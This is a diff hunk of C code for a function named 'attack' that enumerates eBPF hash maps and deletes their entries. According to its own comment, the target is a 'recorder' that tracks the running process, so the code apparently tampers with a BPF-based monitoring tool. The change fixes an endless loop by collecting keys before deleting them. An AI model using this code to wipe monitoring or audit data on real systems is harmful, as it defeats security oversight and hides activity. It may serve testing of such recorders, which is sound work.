@@ -80,25 +80,33 @@ static void attack(pid_t rec)
         a.info.info = (uintptr_t)&info;
         if (bpf(BPF_OBJ_GET_INFO_BY_FD, &a) < 0)
             continue;
-        static char key[512], next[512], zero[4096];
-        if (info.key_size > sizeof key || info.value_size > sizeof zero)
+        static char zero[4096];
+        if (info.value_size > sizeof zero)
             continue;
         int t = info.type, touched = 0;
         if (t == BPF_MAP_TYPE_HASH || t == BPF_MAP_TYPE_LRU_HASH || t == BPF_MAP_TYPE_PERCPU_HASH || t == BPF_MAP_TYPE_LRU_PERCPU_HASH) {
-            for (;;) {
+            /* Collect the keys first, then delete each once: deleting while walking would
+             * loop forever on a map the recorder refills (it tracks this very process). */
+            static char keys[1024][64];
+            int nk = 0;
+            void *prev = NULL;
+            while (nk < 1024 && info.key_size <= 64) {
                 memset(&a, 0, sizeof a);
                 a.map_fd = fd;
-                a.key = 0;
-                a.next_key = (uintptr_t)next;
+                a.key = (uintptr_t)prev;
+                a.next_key = (uintptr_t)keys[nk];
                 if (bpf(BPF_MAP_GET_NEXT_KEY, &a) < 0)
                     break;
+                prev = keys[nk++];
+            }
+            for (int k = 0; k < nk; k++) {
                 memset(&a, 0, sizeof a);
                 a.map_fd = fd;
-                a.key = (uintptr_t)next;
-                if (bpf(BPF_MAP_DELETE_ELEM, &a) < 0)
-                    break;
-                entries++;
-                touched = 1;
+                a.key = (uintptr_t)keys[k];
+                if (bpf(BPF_MAP_DELETE_ELEM, &a) == 0) {
+                    entries++;
+                    touched = 1;
+                }
             }
             hashes += touched;
         } else if (t == BPF_MAP_TYPE_ARRAY && info.max_entries <= 64) {
